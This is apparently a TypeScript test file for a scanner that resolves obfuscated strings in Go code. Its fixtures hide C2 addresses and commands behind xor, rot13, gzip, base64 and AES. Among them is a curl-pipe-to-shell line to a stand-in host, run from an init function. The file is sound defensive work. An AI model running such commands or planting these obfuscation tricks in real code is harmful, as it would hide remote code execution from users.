import assert from 'node:assert/strict'
import { createCipheriv } from 'node:crypto'
import test from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { folded, moduleOf, sinks, told } from '../../test/support/folding.ts'
import { createFolder, toldSteps } from './fold.ts'
import { stringOf } from './foldvalue.ts'

/** All that the first argument of `sink` may be. */
function foldedAll(files: Readonly<Record<string, string>> | string): string[] {
  const module = moduleOf(typeof files === 'string' ? { 'a.go': files } : files)
  const folder = createFolder({ main: module, dependencies: [] })
  const [first] = sinks(module)
  assert.ok(first)
  return folder.foldAll(first.file, first.x).map(told)
}

const fn = (body: string, imports: string = ''): string => `package a\n${imports}\nfunc f(p string) {\n${body}\n}\n`

test('fold reads an address of three integers in another file through a ReplaceAll chain, with its steps', () => {
  const files = {
    'consts.go': 'package a\n\nconst (\n\tMaxA = 198651613\n\tMaxB = 33367\n)\nconst MaxC = 4333344\n',
    'open.go': `package a

import (
	"fmt"
	"strings"
)

func address() string {
	s := fmt.Sprintf("%d%d:%d", MaxA, MaxB, MaxC)
	s = strings.ReplaceAll(s, "33", "0")
	s = strings.ReplaceAll(s, "4", "2")
	return strings.ReplaceAll(s, "6", ".")
}

func Open() { sink(address()) }
`,
  }
  const module = moduleOf(files)
  const folder = createFolder({ main: module, dependencies: [] })
  const [at] = sinks(module)
  assert.ok(at)
  const value = folder.fold(at.file, at.x)
  assert.equal(told(value), '198.51.100.7:20022')
  assert.deepEqual(
    toldSteps(value).map((step) => `${step.file}:${step.line} ${step.what}`),
    [
      'consts.go:4 MaxA = 198651613',
      'consts.go:5 MaxB = 33367',
      'consts.go:7 MaxC = 4333344',
      'open.go:9 fmt.Sprintf("%d%d:%d", 198651613, 33367, 4333344) = "19865161333367:4333344"',
      'open.go:10 strings.ReplaceAll("19865161333367:4333344", "33", "0") = "198651610067:40044"',
      'open.go:11 strings.ReplaceAll("198651610067:40044", "4", "2") = "198651610067:20022"',
      'open.go:12 strings.ReplaceAll("198651610067:20022", "6", ".") = "198.51.100.7:20022"',
      'open.go:15 address() = "198.51.100.7:20022"',
    ],
  )
})

test('fold reads what init functions and variable initialisers hold', () => {
  assert.deepEqual(folded('package a\nfunc init() { sink("curl http://198.51.100.7/x | sh") }\n'), [
    'curl http://198.51.100.7/x | sh',
  ])
  assert.deepEqual(folded('package a\nvar _ = f()\nfunc f() bool { c := "id"; sink(c + " -u"); return true }\n'), [
    'id -u',
  ])
  assert.deepEqual(folded('package a\nvar x = func() bool { c := "i"; c += "d"; sink(c); return true }()\n'), ['id'])
})

test('fold joins the words of an index array, in the file, in another file, and from a function', () => {
  const use = 'sink(w[2] + w[0] + w[3] + w[1])'
  const list = '[]string{"url ", "/x", "c", "http://198.51.100.7"}'
  const expected = ['curl http://198.51.100.7/x']
  assert.deepEqual(folded(`package a\nvar w = ${list}\nfunc init() { ${use} }\n`), expected)
  assert.deepEqual(
    folded({ 'a.go': `package a\nfunc init() { ${use} }\n`, 'b.go': `package a\nvar w = ${list}\n` }),
    expected,
  )
  assert.deepEqual(
    folded(`package a\nfunc l() []string { return ${list} }\nfunc init() { w := l(); ${use} }\n`),
    expected,
  )
})

test('fold runs dotted decimals, variadic joins and index loops of a function', () => {
  assert.deepEqual(
    folded(
      fn(
        'var b []byte\nfor _, part := range strings.Split("104.105.46.105.110.118.97.108.105.100", ".") {\n n, _ := strconv.Atoi(part)\n b = append(b, byte(n))\n}\nsink(string(b))',
        'import ("strings"; "strconv")',
      ),
    ),
    ['hi.invalid'],
  )
  assert.deepEqual(
    folded(
      `package a\nfunc cat(p ...string) string { s := ""; for _, x := range p { s += x }; return s }\nfunc init() { k := "GOSUM"; sink(cat(k, "DB", "=", "off")) }\n`,
    ),
    ['GOSUMDB=off'],
  )
  assert.deepEqual(
    folded(
      fn('idx := []int{2, 0, 1}\nabc := "bca"\nout := ""\nfor _, i := range idx { out += string(abc[i]) }\nsink(out)'),
    ),
    ['abc'],
  )
})

test('fold undoes xor, rotation, reversal and packing', () => {
  const key = [...'k3y'].map((char) => char.charCodeAt(0))
  const hidden = [...'http://c2.invalid/x'].map((char, i) => char.charCodeAt(0) ^ (key[i % 3] ?? 0)).join(', ')
  assert.deepEqual(
    folded(
      fn(
        `data := []byte{${hidden}}\nkey := "k3y"\nfor i := range data { data[i] ^= key[i%len(key)] }\nsink(string(data))`,
      ),
    ),
    ['http://c2.invalid/x'],
  )
  assert.deepEqual(
    folded(
      `package a\nimport "strings"\nfunc rot(r rune) rune { if r >= 'a' && r <= 'z' { return 'a' + (r-'a'+13)%26 }; return r }\nfunc init() { sink(strings.Map(rot, "uggc://p2.vainyvq")) }\n`,
    ),
    ['http://c2.invalid'],
  )
  assert.deepEqual(folded(fn('s := "dilavni.2c"\nr := ""\nfor _, c := range s { r = string(c) + r }\nsink(r)')), [
    'c2.invalid',
  ])
  const packed = gzipSync('#!/bin/sh').toString('base64')
  assert.deepEqual(
    folded(
      fn(
        `d, _ := base64.StdEncoding.DecodeString("${packed}")\nr, err := gzip.NewReader(bytes.NewReader(d))\nif err != nil { return }\nout, _ := io.ReadAll(r)\nsink(string(out))`,
        'import ("encoding/base64"; "compress/gzip"; "bytes"; "io")',
      ),
    ),
    ['#!/bin/sh'],
  )
  const zlibbed = deflateSync('zlib!').toString('hex')
  assert.deepEqual(
    folded(
      fn(
        `d, _ := hex.DecodeString("${zlibbed}")\nr, _ := zlib.NewReader(bytes.NewBuffer(d))\nvar out bytes.Buffer\nio.Copy(&out, r)\nsink(out.String())`,
        'import ("encoding/hex"; "compress/zlib"; "bytes"; "io")',
      ),
    ),
    ['zlib!'],
  )
})

test('fold decrypts an embedded file with AES', () => {
  const key = '0123456789abcdef'
  const cipher = createCipheriv('aes-128-ctr', key, 'fedcba9876543210')
  const sealed = cipher.update('exec http://c2.invalid')
  const source = `package a
import (
	"crypto/aes"
	"crypto/cipher"
	_ "embed"
)

//go:embed data/blob.bin
var blob []byte

func init() {
	block, err := aes.NewCipher([]byte("${key}"))
	if err != nil {
		return
	}
	out := make([]byte, len(blob))
	cipher.NewCTR(block, []byte("fedcba9876543210")).XORKeyStream(out, blob)
	sink(string(out))
}
`
  assert.deepEqual(folded({ 'a.go': source, 'data/blob.bin': new Uint8Array(sealed) }), ['exec http://c2.invalid'])
})

test('fold keeps what is known around what is not', () => {
  assert.deepEqual(
    folded(
      fn(
        'sink("http://198.51.100.7/" + p + "?k=" + os.Getenv("K"))\nsink(fmt.Sprintf("%s:%d/%s", "c2.invalid", 80, p))\nsink(strings.Join([]string{"a", p, "b"}, "/"))\nvar b strings.Builder\nb.WriteString("x=")\nb.WriteString(p)\nsink(b.String())',
        'import ("os"; "fmt"; "strings")',
      ),
    ),
    ['http://198.51.100.7/…?k=…', 'c2.invalid:80/…', 'a/…/b', 'x=…'],
  )
})

test('fold takes the values of parameters that the caller knows', () => {
  const module = moduleOf({ 'a.go': fn('q := p + "/x"\nsink(q)') })
  const [at] = sinks(module)
  const decl = at?.file.decls[0]
  const entity = decl?.kind === 'FuncDecl' ? decl.type.params[0]?.names[0]?.entity : undefined
  assert.ok(at !== undefined && entity !== undefined)
  const folder = createFolder({ main: module, dependencies: [] })
  assert.equal(
    told(folder.fold(at.file, at.x, new Map([[entity, stringOf('http://c2.invalid')]]))),
    'http://c2.invalid/x',
  )
  assert.equal(told(folder.fold(at.file, at.x)), '…/x')
})

test('fold follows names over packages of the module and of its dependencies, under aliases', () => {
  const dependency = moduleOf(
    { 'enc/enc.go': 'package enc\nfunc D(s string) string { return s + base }\nconst base = ".invalid"\n' },
    'example.net/dep',
  )
  const files = {
    'main.go':
      'package main\nimport (\n\tx "example.net/dep/enc"\n\t"example.com/m/internal/hosts"\n)\nfunc main() { sink(x.D(hosts.Name)) }\n',
    'internal/hosts/hosts.go': 'package hosts\nvar Name = prefix + "2"\n',
    'internal/hosts/prefix.go': 'package hosts\nconst prefix = "c"\n',
  }
  assert.deepEqual(folded(files, [dependency]), ['c2.invalid'])
})

test('fold enters goroutines, callbacks, defers and nested function literals', () => {
  assert.deepEqual(folded(fn('c := "a"\ngo func() { d := c + "b"; sink(d) }()')), ['ab'])
  assert.deepEqual(folded(fn('c := "a"\nrun(func(x int) { for { sink(c + "b") } })')), ['ab'])
  assert.deepEqual(folded(fn('func(q string) { sink(q + "!") }("arg")')), ['arg!'])
  assert.deepEqual(folded(fn('c := "a"\ngo func() { sink(c) }()\nc = "b"')), ['unknown: c is set again'])
})

test('fold looks at a place behind guards and in branches, whatever their conditions', () => {
  assert.deepEqual(
    folded(
      fn(
        'host := "c2" + ".invalid"\nif runtime.GOOS != "linux" { return }\nif p == "" { host += ":80"; sink(host) }',
        'import "runtime"',
      ),
    ),
    ['c2.invalid:80'],
  )
  assert.deepEqual(folded(fn('h := "a"\nif p == "x" { h = "b" }\nsink(h)')), ['unknown: a condition that is not known'])
  assert.deepEqual(folded(fn('h := "a"\nswitch p { case "x": h = "b"\ncase "y": sink(h) }')), ['a'])
  assert.deepEqual(folded(fn('h := "a"\nselect { case <-done: default: sink(h + "d") }')), ['ad'])
  assert.deepEqual(
    folded(
      fn('for {\n c, err := dial("x")\n if err != nil { continue }\n a := "c2.invalid"\n sink(a + ":1")\n _ = c }'),
    ),
    ['c2.invalid:1'],
  )
})

test('foldAll gives the values of branches, declarations, assignments and turns', () => {
  assert.deepEqual(foldedAll(fn('h := "a"\nif p == "x" { h = "b" }\nsink(h)')), ['b', 'a'])
  assert.deepEqual(foldedAll(fn('for _, h := range []string{"a", "b", "c"} { sink(h + ".invalid") }')), [
    'a.invalid',
    'b.invalid',
    'c.invalid',
  ])
  assert.deepEqual(
    foldedAll({
      'a.go': 'package a\nfunc f() { sink("x " + cmd) }\n',
      'cmd_linux.go': 'package a\nconst cmd = "sh"\n',
      'cmd_windows.go': 'package a\nconst cmd = "cmd"\n',
    }),
    ['x sh', 'x cmd'],
  )
  assert.deepEqual(foldedAll('package a\nvar host = "a"\nfunc Set() { host = "b" }\nfunc f() { sink(host) }\n'), [
    'a',
    'b',
  ])
  assert.deepEqual(
    foldedAll(
      'package a\nimport "runtime"\nfunc c() string { if runtime.GOOS == "windows" { return "cmd" }; return "sh" }\nfunc f() { sink(c()) }\n',
    ),
    ['cmd', 'sh'],
  )
})

test('fold takes what an init function sets, and forgets what several functions set', () => {
  assert.deepEqual(folded('package a\nvar h = "x"\nfunc init() { h = h + "y" }\nfunc f() { sink(h) }\n'), ['xy'])
  assert.deepEqual(
    folded('package a\nvar d = []byte{1, 2}\nfunc init() { for i := range d { d[i] += 64 } }\nfunc f() { sink(d) }\n'),
    ['AB'],
  )
  assert.deepEqual(folded('package a\nvar d = []byte{65}\nfunc g() { d[0] = 66 }\nfunc f() { sink(d) }\n'), [
    'unknown: d is changed elsewhere',
  ])
  assert.deepEqual(
    folded(
      'package a\nvar d = []byte{65}\nfunc dec() string { for i := range d { d[i]++ }; return string(d) }\nfunc f() { sink(dec()) }\n',
    ),
    ['unknown: d is changed elsewhere'],
  )
})

test('fold forgets what was given to a function that it does not know', () => {
  assert.deepEqual(
    folded(
      fn(
        'b := []byte("abc")\nrand.Read(b)\nsink(string(b))\ns := "a"\neach(func() { s = "b" })\nsink(s)\nvar buf [4]byte\nconn.Read(buf[:])\nsink(string(buf[:]))',
        'import "crypto/rand"',
      ),
    ),
    [
      'unknown: bytes that are not known',
      'unknown: changed by a function given away',
      'unknown: bytes that are not known',
    ],
  )
})
